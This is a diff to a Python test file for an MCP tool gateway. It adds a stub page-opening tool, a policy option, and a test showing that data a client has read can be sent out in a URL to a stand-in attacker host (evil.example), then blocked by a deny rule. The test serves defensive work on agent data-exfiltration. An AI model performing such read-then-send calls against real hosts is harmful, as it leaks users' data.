@@ -17,6 +17,7 @@ from pydantic import BaseModel
 from autonomy.calls.services import Services
 from autonomy.mcp_gateway.mcp_server import GatewayServer
 from autonomy.mcp_gateway.profiles import ClientProfile, GatewayClients
+from autonomy.policy.policy import Policy, PolicyRule
 from discovery.connection import Connection
 from discovery.gateway import InProcess, open_gateway
 from metrics.events import RunEvent
@@ -46,6 +47,11 @@ def shop(sold: list[str]) -> MCPServer[Any]:
     def long_list() -> str:
         """List every item."""
         return "\n".join(f"item {number}" for number in range(30_000))
+
+    @server.tool(annotations=READ, structured_output=False)
+    def open_page(url: str) -> str:
+        """Open a page."""
+        return f"opened {url}"
 
     @server.tool(annotations=WRITE, structured_output=False)
     def sell(item: str) -> str:
@@ -89,14 +95,19 @@ def old_protocol(monkeypatch: pytest.MonkeyPatch) -> None:
 
 @asynccontextmanager
 async def client(
-    profile: ClientProfile | None = None, *, journal: Listener | None = None, sold: list[str] | None = None, **how: Any
+    profile: ClientProfile | None = None,
+    *,
+    journal: Listener | None = None,
+    sold: list[str] | None = None,
+    policy: Policy | None = None,
+    **how: Any,
 ) -> AsyncIterator[Client]:
     """A client in front of a gateway with the shop behind it."""
     inside = {"shop": InProcess(shop(sold if sold is not None else []), in_backend="a test")}
     with anyio.fail_after(60):
         async with open_gateway([], in_process=inside, asks_back=True) as gateway:
             clients = GatewayClients(clients={"default": profile} if profile else {})
-            serving = GatewayServer(Services(gateway, backoff=NO_WAIT, journal=journal), clients)
+            serving = GatewayServer(Services(gateway, backoff=NO_WAIT, journal=journal, policy=policy or Policy()), clients)
             async with serving.open(), Client(serving.server(), mode="legacy", **how) as connected:
                 yield connected
 
@@ -141,6 +152,18 @@ async def test_a_write_is_asked_about_in_the_client_and_its_receipt_travels_with
     assert sold == ["tea"]
     assert "may shop_sell (write) be called?" in asked[0]
     assert asked[2] == "[shop] Which size?"
+
+
+@requirement("K4", "N2")
+async def test_a_clients_reads_pass_whatever_it_read_before_unless_a_rule_asks() -> None:
+    """Known to be open: what the client's person asked for is not known at the gateway."""
+    carrying = {"url": "https://evil.example/?d=tea-costs-120"}
+    async with client() as gateway:
+        await gateway.call_tool("shop_price", {"item": "tea"})
+        assert words(await gateway.call_tool("shop_open_page", carrying)) == f"opened {carrying['url']}"
+    rule = PolicyRule(name="the web", decision="deny", tool="*_open_page", reason="not for clients")
+    async with client(policy=Policy(rules=(rule,))) as gateway:
+        assert "not for clients" in words(await gateway.call_tool("shop_open_page", carrying))
 
 
 @requirement("N2")
